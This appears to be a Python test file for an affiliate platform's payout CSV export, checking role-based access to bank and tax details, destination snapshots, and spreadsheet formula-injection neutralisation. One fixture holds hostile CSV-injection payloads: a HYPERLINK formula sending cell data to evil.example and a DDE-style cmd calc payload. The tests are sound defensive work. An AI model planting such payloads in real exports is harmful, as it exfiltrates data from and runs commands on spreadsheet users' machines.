"""The payout CSV exports: only Program managers download destinations, a manual payout is
exported with the destination it was created with, and no cell runs as a formula."""

import csv
import io
from datetime import timedelta

import pytest
from django.contrib.auth.models import Group
from hypothesis import given
from hypothesis import strategies as st

from affiliates.roles import PROGRAM_MANAGER, SUPPORT, sync_roles
from commissions.models import CommissionEntry
from config.spreadsheet import FORMULA_STARTS, csv_writer, safe_cell
from payouts import services
from payouts.models import Payout
from tests.factories import (
    AffiliateFactory,
    CommissionEntryFactory,
    PayoutAccountFactory,
    UserFactory,
)

PASSWORD = "pass-1234-word"


def _manual_payout(now, **account):
    affiliate = AffiliateFactory()
    PayoutAccountFactory(
        affiliate=affiliate,
        method="manual",
        bank_details=account.pop("bank_details", "IBAN DE00 1111"),
        **account,
    )
    CommissionEntryFactory(affiliate=affiliate, amount=6000, state=CommissionEntry.State.APPROVED)
    services.run_payouts(now=now)
    return affiliate, Payout.objects.get(affiliate=affiliate)


def _staff(role):
    sync_roles()  # the groups exactly as deployed
    user = UserFactory(is_staff=True)
    user.groups.add(Group.objects.get(name=role))
    return user


def _rows(response):
    return list(csv.reader(io.StringIO(response.content.decode())))


# --- Who may export ---------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["generic", "paypal"])
def test_support_cannot_export_payout_destinations(client, now, kind):
    _manual_payout(now, tax_id="123-45-6789")
    client.force_login(_staff(SUPPORT))

    response = client.get(f"/payouts/export/{kind}.csv")

    assert response.status_code == 403
    assert b"123-45-6789" not in response.content


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["generic", "paypal"])
def test_a_program_manager_exports_payout_destinations(client, now, kind):
    _, payout = _manual_payout(now, tax_id="123-45-6789")
    client.force_login(_staff(PROGRAM_MANAGER))

    response = client.get(f"/payouts/export/{kind}.csv")

    assert response.status_code == 200
    if kind == "generic":
        assert _rows(response)[1][0] == str(payout.pk)


@pytest.mark.django_db
def test_an_affiliate_cannot_export_payout_destinations(client, now):
    affiliate, _ = _manual_payout(now)
    client.force_login(affiliate.user)

    response = client.get("/payouts/export/generic.csv")

    assert response.status_code in (302, 403)
    assert b"IBAN" not in response.content


@pytest.mark.django_db
def test_the_export_permission_lands_only_with_program_managers():
    sync_roles()

    manager = Group.objects.get(name=PROGRAM_MANAGER).permissions
    support = Group.objects.get(name=SUPPORT).permissions

    assert manager.filter(codename="export_payout_destinations").exists()
    assert not support.filter(codename="export_payout_destinations").exists()


# --- The destination is the payout's snapshot -----------------------------------------


@pytest.mark.django_db
def test_bank_details_changed_after_the_run_are_not_exported_against_the_payout(client, now):
    affiliate, payout = _manual_payout(
        now,
        bank_details="IBAN DE00 1111",
        tax_legal_name="Ada Lovelace",
        tax_id="123-45-6789",
    )
    changed_at = now + timedelta(hours=1)
    services.set_manual_details(
        affiliate=affiliate,
        bank_details="IBAN GB99 ATTACKER",
        password=PASSWORD,
        now=changed_at,
    )
    services.set_tax_details(
        affiliate=affiliate,
        legal_name="Mallory",
        country="GB",
        tax_id="999",
        tax_form="w8ben",
        password=PASSWORD,
        now=changed_at,
    )
    client.force_login(_staff(PROGRAM_MANAGER))

    header, row = _rows(client.get("/payouts/export/generic.csv"))

    line = dict(zip(header, row, strict=True))
    assert line["payout_id"] == str(payout.pk)
    assert line["amount"] == "60.00"  # 6000 minor units
    assert line["bank_details"] == "IBAN DE00 1111"
    assert (line["legal_name"], line["tax_id"]) == ("Ada Lovelace", "123-45-6789")
    assert line["details_changed_since"] == changed_at.isoformat()
    assert "ATTACKER" not in str(row) and "Mallory" not in str(row)


@pytest.mark.django_db
def test_marking_a_manual_payout_paid_records_the_snapshot_it_was_paid_to(now):
    from affiliates.models import AuditLog

    affiliate, payout = _manual_payout(now)
    services.set_manual_details(
        affiliate=affiliate, bank_details="IBAN NEW", password=PASSWORD, now=now
    )

    services.mark_paid_manually(payout_ids=[payout.pk], reference="BANK-1", actor=None, now=now)

    audit = AuditLog.objects.get(action="payout_marked_paid")
    assert audit.details["destination_as_at"] == payout.created_at.isoformat()
    assert Payout.objects.get(pk=payout.pk).bank_details == "IBAN DE00 1111"


# --- Spreadsheet safety -------------------------------------------------------------------


@given(st.text())
def test_no_cell_written_by_the_helper_starts_like_a_formula(text):
    out = io.StringIO()

    csv_writer(out).writerow([text])

    (cell,) = next(csv.reader(io.StringIO(out.getvalue()), strict=True)) or [""]
    is_number = text.lstrip("-").replace(".", "", 1).isdigit() and text.isascii()
    if not is_number:
        assert not cell.startswith(FORMULA_STARTS)
    # Neutralising only ever prepends one quote: nothing the affiliate typed is lost.
    assert cell in (text, "'" + text)


@given(st.sampled_from(FORMULA_STARTS), st.text())
def test_text_beginning_with_a_formula_character_is_prefixed_with_a_quote(start, rest):
    text = start + rest + "x"  # never a plain number

    assert safe_cell(text) == "'" + text


@given(st.integers(min_value=-(10**12), max_value=10**12))
def test_plain_amounts_stay_numbers(minor):
    text = f"{minor / 100:.2f}"

    assert safe_cell(text) == text and safe_cell(minor) == minor


@pytest.mark.django_db
def test_an_export_neutralises_a_formula_typed_by_an_affiliate(client, now):
    _manual_payout(
        now,
        bank_details='=HYPERLINK("http://evil.example/?d="&A1,"IBAN")',
        tax_legal_name="@SUM(1+1)*cmd|' /C calc'!A0",
        tax_id="-2+3",
    )
    client.force_login(_staff(PROGRAM_MANAGER))

    header, row = _rows(client.get("/payouts/export/generic.csv"))

    line = dict(zip(header, row, strict=True))
    assert line["bank_details"].startswith("'=HYPERLINK(")
    assert line["legal_name"].startswith("'@SUM")
    assert line["tax_id"] == "'-2+3"
    assert all(not cell.startswith(FORMULA_STARTS) for cell in row)


@pytest.mark.django_db
def test_support_reads_a_payout_in_admin_without_its_destination(client, now):
    _, payout = _manual_payout(now, bank_details="IBAN DE00 1111", tax_id="123-45-6789")
    url = f"/admin/payouts/payout/{payout.pk}/change/"
    client.force_login(_staff(SUPPORT))
    support_page = client.get(url)
    client.force_login(_staff(PROGRAM_MANAGER))
    manager_page = client.get(url)

    assert support_page.status_code == manager_page.status_code == 200
    assert b"IBAN DE00 1111" not in support_page.content
    assert b"123-45-6789" not in support_page.content
    assert b"IBAN DE00 1111" in manager_page.content
